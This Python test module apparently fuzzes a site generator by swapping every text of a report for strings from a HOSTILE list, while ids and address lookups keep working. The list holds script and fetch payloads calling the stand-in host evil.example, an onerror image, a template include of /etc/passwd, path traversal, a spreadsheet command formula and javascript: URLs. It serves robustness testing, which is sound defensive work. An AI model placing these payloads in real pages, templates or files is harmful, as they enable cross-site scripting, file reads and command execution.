"""Hostile texts, and a report whose every text is one of them.

Each text broke a parser, a template, a file name or a guard somewhere.
"""

from __future__ import annotations

import dataclasses
import typing
from collections.abc import Callable
from typing import Any

from generator.records import CircleId, PersonId, Report, SiteId, Url, UrlKey

HOSTILE = (
    # addresses of other hosts, in every quotation a script or style sheet knows
    "//evil.example/x", "https://evil.example/pixel.gif", '`//evil.example/${x}`"//evil.example/y\'//evil.example/z',
    "url(//evil.example/x) @import '//evil.example/x.css'",
    # markup and templates
    "<script src=//evil.example/x.js></script>", "</script><script>fetch('//evil.example/x')</script>", "<!--<script>",
    "</title><meta http-equiv=refresh content='0;url=//evil.example'>", '"><img src=//evil.example/x onerror=alert(1)>',
    '<h2 id="x">heading</h2>', "{{ 7*7 }}{% include '/etc/passwd' %}{# x", "]]>", "<![CDATA[",
    # names of files
    "index", "Index", "INDEX", "index.html", "con", "NUL", "prn", "Aux", "COM1", "com¹", "lpt9", "others", "404",
    "../../etc/passwd", "..", ".", "/", "\\", "C:\\con", "a/../index",
    # nothing that shows, and letters that change their number
    "", " ", "\u200b", "\u00ad", "\ufeff", "---", "+++", "🏔️", "\u0301\u0301", "ſ", "İ", "ﬀ",
    "王小明", "лавины", "مريم", "\u202eevil\u202c", "\u2028\u2029",
    # what a file, a table or XML cannot hold
    "\x00\x01\x08\x1b[31m", "\ud800", "a\udfffb", "\ud83d", "\uffff\ufffe", "\U0010ffff", "\r\n\r\n", "\t=1+1",
    "=cmd|' /C calc'!A0", "BEGIN:VCARD\r\nEND:VCARD", "&#xD800;&#0;&nbsp;&", "&amp;#x26;", "%00%ff%ED%A0%80", "%s %d {0} {}",
    # numbers that are none, and lengths
    "NaN", "Infinity", "null", "-1", "1e999", "9" * 400, "x" * 5_000, "word " * 1_500, "🏔" * 300, "(" * 300, "[" * 300,
    # addresses that are none
    "javascript:alert(1)", "data:text/html,<script>", "mailto:a@b.example?bcc=c@d.example", "http://[::1",
    "http://a.example:99999/",
)  # fmt: skip

# Words of the program, which no page can write: codes of languages, names of signals, references to records.
OWN_WORDS = frozenset({"language", "languages", "weights", "levels", "values", "refusals", "weekday", "id", "person"})
OWN_NAMES = frozenset({"Signal", "Trait", "ValueScore"})
ADDRESSES = frozenset({Url, UrlKey, SiteId})
Draw = Callable[[], str]


def hostile_report(report: Report, draw: Draw, ending: str) -> Report:
    """The report with each text of a page drawn anew; each address gets the same ending, so that lookups still work."""
    ids = {person.id for person in report.corpus.people}
    return typing.cast("Report", _mutated(report, Report, draw, ending, frozenset(map(str, ids))))


def _mutated(value: Any, hint: Any, draw: Draw, ending: str, ids: frozenset[str]) -> Any:
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        hints = typing.get_type_hints(type(value))
        own = type(value).__name__ in OWN_NAMES
        return dataclasses.replace(value, **{
            name: _mutated(getattr(value, name), hint, draw, ending, ids)
            for name, hint in hints.items()
            if name not in OWN_WORDS and not (own and name == "name")
        })  # fmt: skip
    if isinstance(value, tuple):
        inner = typing.get_args(hint)
        hints = [inner[0]] * len(value) if len(inner) == 2 and inner[1] is ... else list(inner) or [object] * len(value)
        return tuple(_mutated(item, one, draw, ending, ids) for item, one in zip(value, hints, strict=True))
    options = set(typing.get_args(hint)) or {hint}
    if not isinstance(value, str) or value in ids or options & {PersonId, CircleId}:
        return value
    if options & ADDRESSES or value.startswith("https://"):
        return value + ending
    return draw() if str in options else value
